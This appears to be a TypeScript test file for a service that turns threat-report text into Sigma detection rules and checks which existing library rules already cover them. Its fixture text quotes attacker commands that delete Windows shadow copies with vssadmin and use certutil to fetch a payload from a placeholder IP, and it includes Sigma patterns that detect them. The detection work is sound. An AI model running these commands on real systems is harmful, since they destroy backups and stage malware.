import { createGenerationHarness, type GenerationHarness } from '../support/generation-harness.js';
import { bearer, createKey, signedInUser } from '../support/harness.js';
import { call } from '../support/pipelines.js';

const TEXT = `The intruders worked on Windows hosts.

They removed the shadow copies with vssadmin.exe delete shadows /all /quiet on each.

They then ran certutil.exe -urlcache -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe on each.`;

const sigma = (
  title: string,
  detection: string,
  logsource = '{ product: windows, category: process_creation }',
): string =>
  `title: ${title}\nlogsource: ${logsource}\ndetection:\n  selection: ${detection}\n  condition: selection\nlevel: high\n`;
const SHADOWS = sigma(
  'All that goes at shadow copies',
  `{ OriginalFileName: VSSADMIN.EXE, CommandLine|contains: shadows }`,
);
const ALIKE = sigma(
  'Shadow copies are listed',
  `{ Image|endswith: '\\vssadmin.exe', CommandLine|contains: 'list shadows' }`,
);

let app: GenerationHarness;
beforeAll(async () => {
  app = await createGenerationHarness();
});
afterAll(() => app.close());

interface Answer {
  readonly id: string;
  readonly rules: readonly { key: string; title: string; coveredBy: { ruleId: string; events: string }[] }[];
  readonly covered: readonly { key: string; title: string; coveredBy: { ruleId: string; events: string }[] }[];
  readonly reason: string | null;
}

/** A user with a library of their own. */
async function someone() {
  const user = await signedInUser(app.instance, 'enterprise');
  const { key } = await createKey(app.instance, user);
  const post = async (body: object): Promise<Answer> =>
    (await call(app.instance, key, 'post', '/v1/generate', body).expect(200)).body.data;
  return {
    key,
    bring: async (yaml: string) => (await post({ inputType: 'sigma', yaml })).rules[0]?.key ?? '',
    read: (options: object = {}, text = TEXT) => post({ inputType: 'text', text, options }),
    get: (path: string) => app.instance.http.get(path).set(bearer(key)),
  };
}

const about = (answer: Answer, word: string) => {
  const found = answer.rules.find(({ title }) => title.toLowerCase().includes(word));
  if (found === undefined)
    throw new Error(`no rule about ${word}: ${answer.rules.map(({ title }) => title).join(', ')}`);
  return found;
};

test('rules whose messages hold signs that no database reads stay in the library, and nobody is kept from reading by them', async () => {
  const { bring, read } = await someone();
  const standing = await bring(SHADOWS);
  const yaml = sigma(
    'Odd words',
    `{ Image|endswith: '\\vssadmin.exe' }`,
    String.raw`{ product: windows, category: process_creation, service: "\0\\\0\ud800" }`,
  );
  const key = await bring(yaml);
  expect(await bring(yaml)).toBe(key);
  const answer = await read();
  expect(about(answer, 'shadow').coveredBy.map(({ ruleId }) => ruleId)).toContain(standing);
  const again = await read();
  expect(again.rules.map((rule) => rule.key)).toEqual(answer.rules.map((rule) => rule.key));
});

test('a rule says which rules of the library notice all that it notices, and one that only looks alike is none of them', async () => {
  const { bring, get, read } = await someone();
  const standing = await bring(SHADOWS);
  await bring(ALIKE);
  const answer = await read();
  const { coveredBy } = about(answer, 'shadow');
  expect(coveredBy).toEqual([
    {
      ruleId: standing,
      title: 'All that goes at shadow copies',
      owner: 'user',
      events: expect.stringMatching(/^(\d+) of \1$/),
    },
  ]);
  expect(about(answer, 'certutil').coveredBy).toEqual([]);
  expect(answer.covered).toEqual([]);
  const stored = (await get(`/v1/generations/${answer.id}`).expect(200)).body.data;
  expect(about(stored, 'shadow').coveredBy).toEqual(coveredBy);
});

test('a report read again is not covered by the rules that it gave itself', async () => {
  const { read } = await someone();
  await read();
  const again = await read();
  expect(again.rules.flatMap(({ coveredBy }) => coveredBy)).toEqual([]);
});

test('a rejected rule and one in the bin cover nothing', async () => {
  const { bring, key, read } = await someone();
  const [rejected, deleted] = [await bring(SHADOWS), await bring(SHADOWS.replace('All', 'Everything'))];
  await call(app.instance, key, 'patch', `/v1/rules/${rejected}`, { state: 'rejected' }).expect(200);
  expect(about(await read(), 'shadow').coveredBy.map(({ ruleId }) => ruleId)).toEqual([deleted]);
  await call(app.instance, key, 'delete', `/v1/rules/${deleted}`).expect(200);
  expect(about(await read(), 'shadow').coveredBy).toEqual([]);
});

test('rules of somebody else cover nothing', async () => {
  await (await someone()).bring(SHADOWS);
  expect(about(await (await someone()).read(), 'shadow').coveredBy).toEqual([]);
});

describe('skipCovered', () => {
  test('leaves a covered rule out, says what covers it, and saves nothing for it', async () => {
    const { bring, get, read } = await someone();
    const standing = await bring(SHADOWS);
    const answer = await read({ skipCovered: true });
    expect(answer.covered).toEqual([
      expect.objectContaining({
        title: expect.stringMatching(/shadow/i),
        platform: 'endpoint-sysmon',
        log: 'windows/process-creation',
        coveredBy: [expect.objectContaining({ ruleId: standing })],
      }),
    ]);
    expect(answer.rules.map(({ title }) => title).filter((title) => /shadow/i.test(title))).toEqual([]);
    await get(`/v1/rules/${answer.covered[0]?.key}`).expect(404);
    const stored = (await get(`/v1/generations/${answer.id}`).expect(200)).body.data;
    expect(stored.covered).toEqual(answer.covered);
    expect(stored.rules).toHaveLength(answer.rules.length);
  });

  test('says why where no rule is left', async () => {
    const { bring, read } = await someone();
    await bring(SHADOWS);
    const text =
      'The intruders removed the shadow copies with vssadmin.exe delete shadows /all /quiet on Windows hosts.';
    const answer = await read({ skipCovered: true }, text);
    expect(answer.rules).toEqual([]);
    expect(answer.reason).toMatch(/covered by rules of your library/);
  });

  test('is refused where it is no yes or no', async () => {
    const { key } = await someone();
    const { body } = await call(app.instance, key, 'post', '/v1/generate', {
      inputType: 'text',
      text: 'x',
      options: { skipCovered: 'maybe' },
    }).expect(400);
    expect(body.error.details).toEqual([expect.objectContaining({ path: 'options.skipCovered' })]);
  });
});
